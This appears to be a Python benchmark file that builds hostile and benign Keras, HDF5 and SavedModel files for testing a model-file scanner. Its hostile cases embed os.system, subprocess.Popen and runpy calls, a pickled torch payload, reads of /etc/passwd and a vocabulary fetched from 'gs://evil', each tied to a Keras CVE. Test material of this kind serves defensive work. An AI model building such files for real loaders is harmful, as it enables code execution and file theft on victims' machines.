"""Keras: .keras, .h5, folders, SavedModel. What a config names is imported or called when the model is made."""

from __future__ import annotations

import base64
import json
from typing import Any

from benchmarks.scan.hostile.cases import Case, bad, twin
from benchmarks.scan.hostile.file_bytes import field
from benchmarks.scan.hostile.hdf5_bytes import Group, hdf5
from benchmarks.scan.hostile.keras_bytes import (
    DENSE,
    WEIGHTS,
    function,
    keras,
    layer,
    old,
    old_model,
    saved_model,
    sequential,
)
from benchmarks.scan.hostile.ordinary import vit
from benchmarks.scan.hostile.pickle_bytes import SYSTEM, torch_zip

CARD = "---\nlibrary_name: keras\n---\n\n# Model\n"
UNSAFE = "keras.saving.load_model before 3.9 (CVE-2025-1550) imports the module and calls what it names"
LAMBDA = "Keras before 2.13, or safe_mode=False: the marshalled code of the layer runs"
CODE = base64.b64encode(b"\xe3\x00\x00\x00\x00").decode()


def _file(label: str, config: dict[str, Any], loader: str = UNSAFE) -> Case:
    return bad(label, loader, lambda: {"model.keras": keras(config), "README.md": CARD})


def _old_file(label: str, body: bytes, loader: str = LAMBDA) -> Case:
    return bad(label, loader, lambda: {"model.h5": body, "README.md": CARD})


OLD_LAMBDA = {
    "class_name": "Lambda",
    "config": {
        "name": "l",
        "function": {"class_name": "__tuple__", "items": [CODE, None, None]},
        "function_type": "lambda",
        "module": "__main__",
        "arguments": {},
    },
}
OLD_DENSE = {"class_name": "Dense", "config": {"name": "dense", "units": 2, "activation": "softmax"}}


def _saved(label: str, body: bytes, loader: str, path: str = "saved_model.pb") -> Case:
    return bad(label, loader, lambda: {path: body, "README.md": CARD})


EMBEDDED = layer(
    "Wrapper",
    {
        "layer": layer(
            "TimeDistributed",
            {
                "layer": layer(
                    "Lambda",
                    {
                        "function": {
                            "class_name": "__lambda__",
                            "config": {"code": CODE, "defaults": None, "closure": None},
                        }
                    },
                )
            },
        )
    },
)
TORCH = base64.b64encode(torch_zip(SYSTEM)).decode()

CASES: tuple[Case, ...] = (
    _file(
        "function-of-os",
        sequential(layer("Lambda", {"function": function("os", "system"), "arguments": {"command": "true"}})),
    ),
    _file("lambda-deep-inside", sequential(DENSE, EMBEDDED), LAMBDA),
    _file("class-of-another-module", sequential(layer("Popen", {"args": ["true"]}, "subprocess"))),
    _file(
        "module-whose-import-acts",
        sequential(layer("Fly", {"units": 2}, "antigravity", "fly>Fly")),
        "Keras before 3.9 imports the module: the browser opens a page",
    ),
    _file(
        "module-that-runs-when-imported",
        sequential(layer("Head", {"units": 2}, "test.autotest", "my>Head")),
        "Keras before 3.9 imports the module, which runs Python's whole test suite in the working folder",
    ),
    _file(
        "loss-of-another-module",
        sequential(DENSE, compile_config={"optimizer": "adam", "loss": function("runpy", "run_path")}),
    ),
    _file(
        "initializer-of-another-module",
        sequential(
            layer(
                "Dense",
                {
                    "units": 2,
                    "kernel_initializer": {
                        "module": "code",
                        "class_name": "InteractiveConsole",
                        "config": {},
                        "registered_name": None,
                    },
                },
            )
        ),
    ),
    _file(
        "get-file-of-keras",
        sequential(
            layer(
                "Lambda",
                {
                    "function": function("keras.utils", "get_file"),
                    "arguments": {"fname": "x", "origin": "http://127.0.0.1:9/x"},
                },
            )
        ),
        "Keras 3.0 to 3.10 (CVE-2025-8747): downloads a file, safe mode or not",
    ),
    _file(
        "torch-module-in-a-layer",
        sequential(layer("TorchModuleWrapper", {"module": TORCH})),
        "Keras 3.11.0 to 3.11.2 (CVE-2025-49655): torch.load(weights_only=False) of the bytes",
    ),
    _file(
        "vocabulary-from-a-file",
        sequential(layer("StringLookup", {"vocabulary": "/etc/passwd", "invert": True})),
        "Keras before 3.12 (CVE-2025-12058): reads the file into the layer, safe mode or not",
    ),
    _file(
        "vocabulary-from-a-host",
        sequential(layer("TextVectorization", {"vocabulary": "gs://evil/x.txt"})),
        "Keras before 3.12 with TensorFlow: fetches from a host",
    ),
    _file(
        "saved-model-in-a-layer",
        sequential(layer("TFSMLayer", {"filepath": "/tmp/model", "call_endpoint": "serve"})),
        "Keras before 3.13 loads a SavedModel from any path or bucket, safe mode or not",
    ),
    _old_file("lambda-in-h5", old(old_model(OLD_DENSE, OLD_LAMBDA))),
    _old_file("lambda-in-a-model-in-h5", old(old_model(OLD_DENSE, old_model(OLD_LAMBDA)))),
    _old_file(
        "loss-of-another-module-in-h5",
        old(
            old_model(OLD_DENSE),
            training_config=json.dumps(
                {"loss": function("os", "system"), "optimizer_config": {"class_name": "Adam", "config": {}}}
            ),
        ),
        UNSAFE,
    ),
    _old_file(
        "external-link", hdf5(Group({}, {"model_weights": ("/etc/passwd", "/x")})), "h5py follows links to other files"
    ),
    _old_file(
        "external-storage",
        hdf5(Group({}, {"kernel": (64, "/etc/passwd", 0)})),
        "h5py reads the bytes of that file as weights (CVE-2026-1669)",
    ),
    _saved("writes-a-file", saved_model("Const", "WriteFile"), "tf.saved_model.load, a call: writes a file"),
    _saved("reads-a-file-in-a-function", saved_model("ReadFile", library=True), "a call reads any file"),
    _saved("prints-to-a-file", saved_model("MatchingFiles", "SaveV2"), "a call lists files and writes one"),
    bad(
        "lambda-in-keras-metadata",
        LAMBDA,
        lambda: {
            "saved_model.pb": saved_model("MatMul"),
            "README.md": CARD,
            "keras_metadata.pb": field(
                1, field(2, 1) + field(3, "root") + field(4, "_tf_keras_layer") + field(5, json.dumps(OLD_LAMBDA))
            ),
        },
    ),
    bad(
        "folder-with-a-foreign-class",
        UNSAFE,
        lambda: {
            "config.json": sequential(layer("Popen", {"args": ["true"]}, "subprocess")),
            "metadata.json": {"keras_version": "3.4.1"},
            "model.weights.h5": WEIGHTS,
            "README.md": CARD,
        },
    ),
    bad("lambda-beside-transformers", LAMBDA, lambda: vit({"tf_model.h5": old(old_model(OLD_LAMBDA))})),
    # twins
    twin("sequential", "keras.saving.load_model", lambda: {"model.keras": keras(sequential(DENSE)), "README.md": CARD}),
    twin(
        "lookup-with-words",
        "keras.saving.load_model",
        lambda: {
            "model.keras": keras(sequential(layer("StringLookup", {"vocabulary": ["[UNK]", "cat", "dog"]}), DENSE)),
            "README.md": CARD,
        },
    ),
    twin("h5", "keras.models.load_model", lambda: {"model.h5": old(old_model(OLD_DENSE)), "README.md": CARD}),
    twin(
        "h5-with-training",
        "keras.models.load_model",
        lambda: {
            "model.h5": old(
                old_model(OLD_DENSE),
                training_config=json.dumps(
                    {
                        "loss": "binary_crossentropy",
                        "metrics": ["accuracy"],
                        "optimizer_config": {"class_name": "Adam", "config": {"learning_rate": 0.001}},
                    }
                ),
            ),
            "README.md": CARD,
        },
    ),
    twin(
        "weights-in-h5-with-soft-link",
        "h5py",
        lambda: vit({"features.h5": hdf5(Group({"note": "x"}, {"a": 8, "b": "/a"}))}),
    ),
    twin(
        "keras-folder",
        "keras_hub",
        lambda: {
            "config.json": sequential(DENSE),
            "metadata.json": {"keras_version": "3.4.1"},
            "model.weights.h5": WEIGHTS,
            "README.md": CARD,
        },
    ),
    twin(
        "saved-model",
        "tf.saved_model.load",
        lambda: {
            "saved_model.pb": saved_model("Const", "MatMul", "BiasAdd", "Softmax", "StatefulPartitionedCall"),
            "README.md": CARD,
        },
    ),
    twin(
        "augmented",
        "keras.saving.load_model",
        lambda: {
            "model.keras": keras(
                sequential(
                    layer("Rescaling", {"scale": 0.0039}),
                    layer("RandomFlip", {"mode": "horizontal"}),
                    layer("Dropout", {"rate": 0.2}),
                    DENSE,
                )
            ),
            "README.md": CARD,
        },
    ),
)
